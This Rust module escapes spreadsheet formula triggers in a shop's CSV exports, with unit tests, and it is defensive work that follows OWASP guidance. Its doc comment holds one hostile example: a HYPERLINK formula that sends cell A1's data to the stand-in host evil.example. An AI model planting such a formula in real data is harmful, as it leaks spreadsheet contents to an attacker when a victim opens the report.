//! CSV cells that a spreadsheet will not run: OWASP's guidance on CSV (formula) injection.
//!
//! Excel, LibreOffice and Google Sheets treat a cell that starts with `=`, `+`, `-` or `@` as a
//! formula, and tab or carriage return can smuggle one past a naive check. A customer who
//! registers as `=HYPERLINK("http://evil.example/?"&A1)@x.io`, or an import that names a
//! product `=1+1`, would otherwise have an admin's spreadsheet run it when the report opens.
//! Every text cell the shop writes goes through [`neutralise`], which prefixes such a cell with
//! a single quote, the escape spreadsheets themselves use to mean "this is text". Numbers are
//! written as numbers and never pass through here, so `-5` in a numeric column stays a number.

use std::borrow::Cow;

/// The first characters that make a spreadsheet read a cell as a formula.
const FORMULA_TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `cell` as it is, or with a leading `'` when it would start a formula.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(FORMULA_TRIGGERS) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_starts_are_quoted_and_plain_text_is_untouched() {
        for trigger in ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"] {
            assert_eq!(neutralise(trigger), format!("'{trigger}"));
        }
        for plain in ["ann@example.com", "Coffee mug", "", "1-2", "'quoted"] {
            assert_eq!(neutralise(plain), plain);
        }
        assert!(matches!(neutralise("plain"), Cow::Borrowed(_)));
    }
}
